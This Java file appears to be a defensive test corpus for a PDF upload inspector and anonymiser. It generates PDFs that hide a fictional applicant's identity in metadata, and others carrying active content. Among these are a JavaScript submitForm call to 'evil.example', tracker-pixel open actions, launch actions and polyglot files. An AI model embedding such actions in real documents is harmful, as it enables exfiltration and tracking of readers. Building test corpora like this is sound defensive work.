package it.convergo.document;

import static it.convergo.document.PdfParts.annotate;
import static it.convergo.document.PdfParts.annotation;
import static it.convergo.document.PdfParts.append;
import static it.convergo.document.PdfParts.array;
import static it.convergo.document.PdfParts.concat;
import static it.convergo.document.PdfParts.dict;
import static it.convergo.document.PdfParts.exe;
import static it.convergo.document.PdfParts.js;
import static it.convergo.document.PdfParts.lastIndexOf;
import static it.convergo.document.PdfParts.protect;
import static it.convergo.document.PdfParts.rect;
import static it.convergo.document.PdfParts.replaceStartxref;
import static it.convergo.document.PdfParts.shifted;
import static it.convergo.document.PdfParts.zipBytes;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Calendar;
import java.util.List;
import java.util.Map;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentInformation;
import org.apache.pdfbox.pdmodel.PDDocumentNameDestinationDictionary;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.apache.pdfbox.pdmodel.common.PDPageLabelRange;
import org.apache.pdfbox.pdmodel.common.PDPageLabels;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.documentinterchange.logicalstructure.PDStructureElement;
import org.apache.pdfbox.pdmodel.documentinterchange.logicalstructure.PDStructureTreeRoot;
import org.apache.pdfbox.pdmodel.font.PDFont;
import org.apache.pdfbox.pdmodel.font.PDType0Font;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject;
import org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.apache.pdfbox.pdmodel.graphics.optionalcontent.PDOptionalContentGroup;
import org.apache.pdfbox.pdmodel.graphics.optionalcontent.PDOptionalContentProperties;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationPopup;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationText;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;

/**
 * A corpus of hostile PDFs made in code: an applicant's identity planted in every metadata location a PDF
 * offers (the anonymiser must remove it), every kind of active content, encryption, damaged files that
 * open only after repair, renamed and polyglot files (the upload inspector must refuse them, each with its
 * reason). Every file shows the same harmless visible text, so what reaches an evaluator can be checked.
 */
public final class HostilePdfs {

    public static final String NAME = "Ottavia Brambilla";
    public static final String ORG = "Lumenfabbrica";
    public static final String EMAIL = "ottavia.brambilla@lumenfabbrica.example";
    public static final String VAT = "IT09876543210";
    public static final List<String> IDENTITY = List.of(NAME, ORG, EMAIL, VAT);
    public static final String VISIBLE = "Piano di lavoro e risultati attesi";

    /** One file of the corpus: accepted ones carry the identity and must come out clean; refused ones name their key. */
    public record Hostile(String name, byte[] bytes, String refusal) {
        public boolean accepted() {
            return refusal == null;
        }

        @Override
        public String toString() {
            return name;
        }
    }

    private interface Twist {
        void apply(PDDocument doc, PDPage page) throws IOException;
    }

    private HostilePdfs() {
    }

    /** Files the inspector accepts and the anonymiser must clean: the identity sits only in places nobody draws. */
    public static List<Hostile> identityEverywhere() {
        List<Hostile> all = new ArrayList<>();
        all.add(accepted("info dictionary", (doc, page) -> {
            PDDocumentInformation info = doc.getDocumentInformation();
            info.setAuthor(NAME);
            info.setCreator(ORG);
            info.setProducer(ORG + " Writer");
            info.setSubject(EMAIL);
            info.setKeywords(VAT);
            info.setCustomMetadataValue("Company", ORG);
        }));
        all.add(accepted("catalogue XMP", (doc, page) -> doc.getDocumentCatalog().setMetadata(xmp(doc))));
        all.add(accepted("page XMP", (doc, page) -> page.setMetadata(xmp(doc))));
        all.add(accepted("page PieceInfo", (doc, page) -> page.getCOSObject().setItem(COSName.PIECE_INFO,
                dict("Illustrator", dict("Private", dict("Owner", NAME, "Mail", EMAIL), "LastModified", "D:20260101")))));
        all.add(accepted("annotation author and popup", (doc, page) -> {
            PDAnnotationText note = new PDAnnotationText();
            note.setRectangle(new PDRectangle(400, 700, 20, 20));
            note.setTitlePopup(NAME);
            note.setContents("Rivedere - " + ORG);
            note.setAnnotationName(VAT);
            PDAnnotationPopup popup = new PDAnnotationPopup();
            popup.setRectangle(new PDRectangle(420, 600, 150, 80));
            popup.setContents(EMAIL);
            note.setPopup(popup);
            annotate(page, note);
            annotate(page, popup);
        }));
        all.add(accepted("free text with rich text", (doc, page) -> annotate(page, annotation("FreeText",
                "Contents", NAME, "RC", "<body><p>" + EMAIL + "</p></body>", "DA", "/Helv 10 Tf 0 g"))));
        all.add(accepted("form field names, tooltips and hidden values", HostilePdfs::form));
        all.add(accepted("signature field naming the signer", (doc, page) -> {
            PDAcroForm form = new PDAcroForm(doc);
            doc.getDocumentCatalog().setAcroForm(form);
            COSDictionary field = dict("FT", COSName.getPDFName("Sig"), "T", ORG, "TU", NAME, "V",
                    dict("Type", COSName.getPDFName("Sig"), "Name", NAME, "ContactInfo", EMAIL, "Reason", VAT),
                    "Subtype", COSName.getPDFName("Widget"), "Type", COSName.ANNOT, "Rect", rect(0, 0, 0, 0));
            form.getCOSObject().setItem(COSName.FIELDS, array(field));
            annotate(page, new PDAnnotationWidget(field));
        }));
        all.add(accepted("bookmarks", (doc, page) -> {
            PDDocumentOutline outline = new PDDocumentOutline();
            PDOutlineItem item = new PDOutlineItem();
            item.setTitle("Curriculum di " + NAME);
            item.setDestination(page);
            outline.addLast(item);
            doc.getDocumentCatalog().setDocumentOutline(outline);
        }));
        all.add(accepted("named destinations", (doc, page) -> {
            PDPageFitDestination dest = new PDPageFitDestination();
            dest.setPage(page);
            PDDocumentNameDestinationDictionary byCatalog = new PDDocumentNameDestinationDictionary(new COSDictionary());
            byCatalog.getCOSObject().setItem(COSName.getPDFName(ORG), dest);
            doc.getDocumentCatalog().getCOSObject().setItem(COSName.DESTS, byCatalog);
            var tree = new org.apache.pdfbox.pdmodel.PDDestinationNameTreeNode();
            tree.setNames(Map.of(NAME, dest));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setDests(tree);
            doc.getDocumentCatalog().setNames(names);
        }));
        all.add(accepted("page labels", (doc, page) -> {
            PDPageLabels labels = new PDPageLabels(doc);
            PDPageLabelRange range = new PDPageLabelRange();
            range.setPrefix(ORG + "-");
            labels.setLabelItem(0, range);
            doc.getDocumentCatalog().setPageLabels(labels);
        }));
        all.add(accepted("structure tree attributes", (doc, page) -> {
            PDStructureTreeRoot root = new PDStructureTreeRoot();
            PDStructureElement element = new PDStructureElement("P", root);
            element.setTitle(NAME);
            element.setAlternateDescription(EMAIL);
            element.setActualText(ORG);
            element.setPage(page);
            root.appendKid(element);
            doc.getDocumentCatalog().setStructureTreeRoot(root);
            page.getCOSObject().setInt(COSName.STRUCT_PARENTS, 0);
        }));
        all.add(accepted("marked content replacement text", (doc, page) -> {
            PDResources resources = page.getResources();
            COSName font = resources.add(new PDType1Font(Standard14Fonts.FontName.HELVETICA));
            String content = "/Span <</ActualText (" + NAME + ") /Alt (" + EMAIL + ")>> BDC BT /" + font.getName()
                    + " 9 Tf 72 650 Td (" + VISIBLE + ") Tj ET EMC\n/P <</E (" + VAT + ") /MCID 0>> BDC EMC";
            append(doc, page, content);
        }));
        all.add(accepted("image XObject metadata", (doc, page) -> {
            PDImageXObject image = LosslessFactory.createFromImage(doc, new BufferedImage(4, 4, BufferedImage.TYPE_INT_RGB));
            image.getCOSObject().setItem(COSName.METADATA, xmp(doc));
            image.getCOSObject().setItem(COSName.getPDFName("OPI"), dict("1.3", dict("F", "\\\\" + ORG + "\\scans\\logo.tif")));
            try (PDPageContentStream out = new PDPageContentStream(doc, page, PDPageContentStream.AppendMode.APPEND, true)) {
                out.drawImage(image, 72, 500, 20, 20);
            }
        }));
        all.add(accepted("form XObject metadata and piece info", (doc, page) -> {
            PDFormXObject form = new PDFormXObject(doc);
            form.setBBox(new PDRectangle(20, 20));
            form.getCOSObject().setItem(COSName.METADATA, xmp(doc));
            form.getCOSObject().setItem(COSName.PIECE_INFO, dict("App", dict("Private", NAME)));
            try (PDPageContentStream out = new PDPageContentStream(doc, page, PDPageContentStream.AppendMode.APPEND, true)) {
                out.drawForm(form);
            }
        }));
        all.add(accepted("font descriptor metadata", (doc, page) -> {
            PDFont font;
            try (InputStream ttf = HostilePdfs.class.getResourceAsStream("/fonts/DejaVuSans.ttf")) {
                font = PDType0Font.load(doc, ttf);
            }
            try (PDPageContentStream out = new PDPageContentStream(doc, page, PDPageContentStream.AppendMode.APPEND, true)) {
                out.beginText();
                out.setFont(font, 9);
                out.newLineAtOffset(72, 480);
                out.showText("Attività previste");
                out.endText();
            }
            doc.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("ZZFont"), font);
            font.getFontDescriptor().getCOSObject().setItem(COSName.METADATA, xmp(doc));
        }));
        all.add(accepted("trailer identifier", (doc, page) -> doc.getDocument().getTrailer().setItem(COSName.ID,
                array(new COSString(NAME.getBytes(StandardCharsets.US_ASCII)), new COSString(VAT.getBytes(StandardCharsets.US_ASCII))))));
        all.add(accepted("thumbnail", (doc, page) -> {
            COSStream thumb = doc.getDocument().createCOSStream();
            try (OutputStream out = thumb.createOutputStream()) {
                out.write(("thumbnail of " + NAME).getBytes(StandardCharsets.US_ASCII));
            }
            thumb.setItem(COSName.METADATA, xmp(doc));
            page.getCOSObject().setItem(COSName.getPDFName("Thumb"), thumb);
        }));
        all.add(accepted("optional content layer names", (doc, page) -> {
            PDOptionalContentProperties properties = new PDOptionalContentProperties();
            PDOptionalContentGroup layer = new PDOptionalContentGroup("Logo " + ORG);
            properties.addGroup(layer);
            doc.getDocumentCatalog().setOCProperties(properties);
            try (PDPageContentStream out = new PDPageContentStream(doc, page, PDPageContentStream.AppendMode.APPEND, true)) {
                out.beginMarkedContent(COSName.OC, layer);
                out.addRect(72, 400, 10, 10);
                out.fill();
                out.endMarkedContent();
            }
        }));
        all.add(accepted("custom keys on catalogue and page", (doc, page) -> {
            doc.getDocumentCatalog().getCOSObject().setString("ZZApplicant", NAME);
            page.getCOSObject().setString("ZZOwner", EMAIL);
            page.getCOSObject().setItem(COSName.getPDFName("VP"), array(dict("Type", COSName.getPDFName("Viewport"),
                    "Name", ORG, "BBox", rect(0, 0, 100, 100))));
        }));
        all.add(accepted("resource pointing back to the catalogue", (doc, page) -> {
            doc.getDocumentCatalog().getCOSObject().setString("ZZApplicant", VAT);
            page.getResources().getCOSObject().setItem(COSName.getPDFName("ZZBack"), doc.getDocumentCatalog());
            COSDictionary fonts = new COSDictionary();
            fonts.setItem(COSName.getPDFName("ZZInfo"), doc.getDocumentInformation());
            doc.getDocumentInformation().setAuthor(NAME);
            page.getResources().getCOSObject().setItem(COSName.getPDFName("ZZFonts"), fonts);
        }));
        all.add(accepted("web link to the applicant's site", (doc, page) -> {
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(72, 300, 100, 20));
            PDActionURI uri = new PDActionURI();
            uri.setURI("https://www." + ORG.toLowerCase(java.util.Locale.ROOT) + ".example/team");
            link.setAction(uri);
            annotate(page, link);
        }));
        all.add(accepted("article threads and beads", (doc, page) -> {
            COSDictionary thread = dict("Type", COSName.getPDFName("Thread"), "I", dict("Title", ORG, "Author", NAME));
            COSDictionary bead = dict("Type", COSName.getPDFName("Bead"), "T", thread, "P", page, "R", rect(0, 0, 100, 100));
            bead.setItem(COSName.N, bead);
            bead.setItem(COSName.V, bead);
            thread.setItem(COSName.F, bead);
            doc.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Threads"), array(thread));
            page.getCOSObject().setItem(COSName.B, array(bead));
        }));
        all.add(accepted("output intent information", (doc, page) -> doc.getDocumentCatalog().getCOSObject().setItem(
                COSName.OUTPUT_INTENTS, array(dict("Type", COSName.getPDFName("OutputIntent"), "S",
                        COSName.getPDFName("GTS_PDFA1"), "OutputConditionIdentifier", "Custom", "Info", NAME)))));
        all.add(accepted("square annotation with name and subject", (doc, page) -> annotate(page, 
                annotation("Square", "NM", EMAIL, "Subj", ORG, "T", NAME))));
        all.add(new Hostile("metadata without compression", save((doc, page) -> {
            doc.getDocumentInformation().setAuthor(NAME);
            page.getCOSObject().setItem(COSName.METADATA, xmp(doc));
        }, false), null));
        all.add(new Hostile("incremental update hiding the first author", incremental(), null));
        all.add(accepted("everything at once", (doc, page) -> {
            doc.getDocumentInformation().setAuthor(NAME);
            doc.getDocumentCatalog().setMetadata(xmp(doc));
            page.setMetadata(xmp(doc));
            form(doc, page);
        }));
        return all;
    }

    /** Files the inspector must refuse, with the key of the message that says why. */
    public static List<Hostile> refused() {
        List<Hostile> all = new ArrayList<>();
        all.add(refused("JavaScript open action", "document.error.javascript",
                (doc, page) -> doc.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('" + NAME + "')"))));
        all.add(refused("JavaScript in a page's additional actions", "document.error.javascript",
                (doc, page) -> page.getCOSObject().setItem(COSName.AA, dict("O", js()))));
        all.add(refused("JavaScript in an annotation action", "document.error.javascript",
                (doc, page) -> annotate(page, annotation("Link", "A", js()))));
        all.add(refused("JavaScript as a direct dictionary in an annotation's additional actions", "document.error.javascript",
                (doc, page) -> annotate(page, annotation("Link", "AA", dict("E", js())))));
        all.add(refused("JavaScript in the names tree", "document.error.javascript", (doc, page) -> {
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("init", new PDActionJavaScript("this.submitForm('http://evil.example')")));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setJavascript(scripts);
            doc.getDocumentCatalog().setNames(names);
        }));
        all.add(refused("JavaScript chained after a harmless action", "document.error.javascript",
                (doc, page) -> doc.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION,
                        dict("S", COSName.getPDFName("GoTo"), "D", array(page, COSName.getPDFName("Fit")), "Next", js()))));
        all.add(refused("launch action", "document.error.launch", (doc, page) -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.setFile(new PDComplexFileSpecification());
            doc.getDocumentCatalog().setOpenAction(launch);
        }));
        all.add(refused("submit form button", "document.error.submitForm", (doc, page) -> annotate(page, 
                annotation("Widget", "FT", COSName.getPDFName("Btn"), "A", dict("S", COSName.getPDFName("SubmitForm"),
                        "F", dict("FS", COSName.URL, "F", "https://collect.example/form"))))));
        all.add(refused("import data action", "document.error.submitForm", (doc, page) -> doc.getDocumentCatalog()
                .getCOSObject().setItem(COSName.OPEN_ACTION, dict("S", COSName.getPDFName("ImportData"), "F", "data.fdf"))));
        all.add(refused("GoToR to a network path", "document.error.remoteLink", (doc, page) -> annotate(page, 
                annotation("Link", "A", dict("S", COSName.getPDFName("GoToR"), "F", "\\\\files.example\\share\\x.pdf",
                        "D", array(COSInteger.ZERO, COSName.getPDFName("Fit")))))));
        all.add(refused("GoToE to an embedded target", "document.error.remoteLink", (doc, page) -> annotate(page, 
                annotation("Link", "A", dict("S", COSName.getPDFName("GoToE"), "T", dict("R", COSName.getPDFName("C"),
                        "N", "annex"))))));
        all.add(refused("link to a file address", "document.error.remoteLink", (doc, page) -> annotate(page, 
                annotation("Link", "A", dict("S", COSName.getPDFName("URI"), "URI", "file://files.example/share/x")))));
        all.add(refused("web address opened on open", "document.error.autoUri", (doc, page) -> {
            PDActionURI uri = new PDActionURI();
            uri.setURI("https://tracker.example/pixel?doc=1");
            doc.getDocumentCatalog().setOpenAction(uri);
        }));
        all.add(refused("web address opened when a page is shown", "document.error.autoUri",
                (doc, page) -> page.getCOSObject().setItem(COSName.AA, dict("O", dict("S", COSName.getPDFName("URI"),
                        "URI", "https://tracker.example/page")))));
        all.add(refused("XFA form with a script", "document.error.xfa", (doc, page) -> {
            PDAcroForm form = new PDAcroForm(doc);
            COSStream xfa = doc.getDocument().createCOSStream();
            try (OutputStream out = xfa.createOutputStream()) {
                out.write("<xdp:xdp><template><script contentType='application/x-javascript'>app.alert(1)</script></template></xdp:xdp>"
                        .getBytes(StandardCharsets.US_ASCII));
            }
            form.getCOSObject().setItem(COSName.getPDFName("XFA"), xfa);
            doc.getDocumentCatalog().setAcroForm(form);
        }));
        all.add(refused("rich media annotation", "document.error.media", (doc, page) -> annotate(page, 
                annotation("RichMedia", "RichMediaContent", dict("Assets", dict())))));
        all.add(refused("sound annotation", "document.error.media", (doc, page) -> annotate(page, 
                annotation("Sound", "Sound", dict("R", COSInteger.get(8000))))));
        all.add(refused("movie annotation", "document.error.media", (doc, page) -> annotate(page, 
                annotation("Movie", "Movie", dict("F", "clip.mov")))));
        all.add(refused("screen annotation with a rendition", "document.error.media", (doc, page) -> annotate(page, 
                annotation("Screen", "A", dict("S", COSName.getPDFName("Rendition"), "OP", COSInteger.ZERO)))));
        all.add(refused("3D annotation", "document.error.media", (doc, page) -> annotate(page, 
                annotation("3D", "3DD", dict()))));
        all.add(refused("file attachment annotation", "document.error.embeddedFile", (doc, page) -> annotate(page, 
                annotation("FileAttachment", "FS", dict("Type", COSName.getPDFName("Filespec"), "F", NAME + ".docx")))));
        all.add(refused("embedded files name tree (in an object stream)", "document.error.embeddedFile", HostilePdfs::embeddedFiles));
        all.add(new Hostile("embedded files without compression", save(HostilePdfs::embeddedFiles, false), "document.error.embeddedFile"));
        all.add(refused("associated file on the catalogue", "document.error.embeddedFile", (doc, page) -> doc.getDocumentCatalog()
                .getCOSObject().setItem(COSName.getPDFName("AF"), array(dict("Type", COSName.getPDFName("Filespec"), "F", "cv.pdf")))));
        all.add(refused("encrypted with a password", "document.error.encrypted", (doc, page) -> protect(doc, "secret")));
        all.add(refused("encrypted without a user password", "document.error.encrypted", (doc, page) -> protect(doc, "")));
        byte[] plain = save((doc, page) -> { }, false);
        all.add(new Hostile("truncated before its cross-reference table", Arrays.copyOf(plain, lastIndexOf(plain, "\nxref")),
                "document.error.damaged"));
        all.add(new Hostile("wrong startxref offset", replaceStartxref(plain), "document.error.damaged"));
        all.add(new Hostile("every object moved from where the table says", shifted(plain), "document.error.damaged"));
        all.add(new Hostile("garbage after a PDF header", "%PDF-1.7\n this is no PDF at all".getBytes(StandardCharsets.US_ASCII),
                "document.error.corrupt"));
        all.add(new Hostile("a ZIP archive named .pdf", zipBytes(), "document.error.notPdf"));
        all.add(new Hostile("an executable named .pdf", exe(), "document.error.notPdf"));
        all.add(new Hostile("HTML page before the PDF", concat("<html><script>alert(1)</script></html>\n".getBytes(
                StandardCharsets.US_ASCII), plain), "document.error.polyglot"));
        all.add(new Hostile("ZIP archive appended after the PDF", concat(plain, zipBytes()), "document.error.polyglot"));
        return all;
    }

    // ------------------------------------------------------------------ building blocks

    private static Hostile accepted(String name, Twist twist) {
        return new Hostile(name, save(twist, true), null);
    }

    private static Hostile refused(String name, String key, Twist twist) {
        return new Hostile(name, save(twist, true), key);
    }

    private static byte[] save(Twist twist, boolean compress) {
        try (PDDocument doc = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            try (PDPageContentStream out = new PDPageContentStream(doc, page)) {
                out.beginText();
                out.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                out.newLineAtOffset(72, 760);
                out.showText(VISIBLE);
                out.endText();
            }
            twist.apply(doc, page);
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            doc.save(bytes, compress ? CompressParameters.DEFAULT_COMPRESSION : CompressParameters.NO_COMPRESSION);
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void form(PDDocument doc, PDPage page) throws IOException {
        PDAcroForm form = new PDAcroForm(doc);
        doc.getDocumentCatalog().setAcroForm(form);
        PDResources resources = new PDResources();
        resources.put(COSName.HELV, new PDType1Font(Standard14Fonts.FontName.HELVETICA));
        form.setDefaultResources(resources);
        form.setDefaultAppearance("/Helv 10 Tf 0 g");
        PDTextField shown = field(form, page, "referente_" + NAME.replace(' ', '_'), 600, false);
        shown.setAlternateFieldName(EMAIL);
        shown.setMappingName(ORG);
        shown.setValue("42");
        PDTextField hidden = field(form, page, "vat", 560, true);
        hidden.setValue(VAT);
        hidden.setDefaultValue(NAME);
    }

    private static PDTextField field(PDAcroForm form, PDPage page, String name, float y, boolean hidden) throws IOException {
        PDTextField field = new PDTextField(form);
        field.setPartialName(name);
        PDAnnotationWidget widget = field.getWidgets().get(0);
        widget.setRectangle(new PDRectangle(72, y, 200, 20));
        widget.setPage(page);
        widget.setHidden(hidden);
        annotate(page, widget);
        form.getFields().add(field);
        return field;
    }

    private static void embeddedFiles(PDDocument doc, PDPage page) throws IOException {
        PDEmbeddedFile file = new PDEmbeddedFile(doc, new ByteArrayInputStream(("CV of " + NAME).getBytes(StandardCharsets.US_ASCII)));
        file.setCreationDate(Calendar.getInstance());
        PDComplexFileSpecification spec = new PDComplexFileSpecification();
        spec.setFile(NAME + ".txt");
        spec.setFileDescription(EMAIL);
        spec.setEmbeddedFile(file);
        PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
        tree.setNames(Map.of(NAME + ".txt", spec));
        PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
        names.setEmbeddedFiles(tree);
        doc.getDocumentCatalog().setNames(names);
    }

    /** A first revision with the author's name, then an incremental update that blanks it: both stay in the bytes. */
    private static byte[] incremental() {
        byte[] first = save((doc, page) -> doc.getDocumentInformation().setAuthor(NAME), false);
        try (PDDocument doc = Loader.loadPDF(first)) {
            doc.getDocumentInformation().setAuthor("Anonimo");
            doc.getDocumentInformation().getCOSObject().setNeedToBeUpdated(true);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.saveIncremental(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static PDMetadata xmp(PDDocument doc) throws IOException {
        String xml = "<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta xmlns:x='adobe:ns:meta/'>"
                + "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description rdf:about='' "
                + "xmlns:dc='http://purl.org/dc/elements/1.1/' xmlns:pdfx='http://ns.adobe.com/pdfx/1.3/'>"
                + "<dc:creator><rdf:Seq><rdf:li>" + NAME + "</rdf:li></rdf:Seq></dc:creator>"
                + "<pdfx:Company>" + ORG + "</pdfx:Company><pdfx:Mail>" + EMAIL + "</pdfx:Mail><pdfx:Vat>" + VAT + "</pdfx:Vat>"
                + "</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end='w'?>";
        return new PDMetadata(doc, new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
    }















}
